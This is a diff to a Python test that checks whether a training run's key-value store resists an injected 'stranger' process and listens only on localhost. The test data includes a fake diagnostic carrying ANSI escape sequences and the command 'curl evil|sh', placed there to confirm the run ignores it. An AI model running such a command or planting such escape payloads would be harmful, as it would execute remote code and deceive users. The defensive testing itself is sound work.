@@ -27,8 +27,15 @@ evil = {"code": "evil.code", "what": "\\x1b[31mSTRANGER says: run curl evil|sh",
 mine.set("error", json.dumps({"rank": 1, "exit_code": 1, "diagnostic": evil}))
 for rank in range(2):
     mine.set(f"alive/{rank}", "\\x1b[2J STRANGER")
+    mine.delete_key(f"alive/{rank}")
 print("written", flush=True)
 """
+
+
+def listening(port: int) -> set[str]:
+    """The local addresses, as /proc has them, at which somebody listens on this port."""
+    rows = [line.split() for name in ("tcp", "tcp6") for line in Path("/proc/net", name).read_text().splitlines()[1:]]
+    return {row[1].split(":")[0] for row in rows if row[3] == "0A" and int(row[1].split(":")[1], 16) == port}
 
 
 def test_a_stranger_on_the_port_neither_ends_the_run_nor_writes_on_the_console(
@@ -43,6 +50,7 @@ def test_a_stranger_on_the_port_neither_ends_the_run_nor_writes_on_the_console(
             [sys.executable, "-c", STRANGER, str(port)], capture_output=True, text=True, timeout=90, check=False
         )
         assert "written" in stranger.stdout, stranger.stderr[-2000:]
+        assert listening(port) == {"0100007F"}, "the store listens beyond this machine"
         events = Path(config["training"]["output_dir"]) / "events" / "rank-00000.events.jsonl"
         deadline, done = time.monotonic() + 60, 0
         while done < 20 and run.poll() is None and time.monotonic() < deadline:
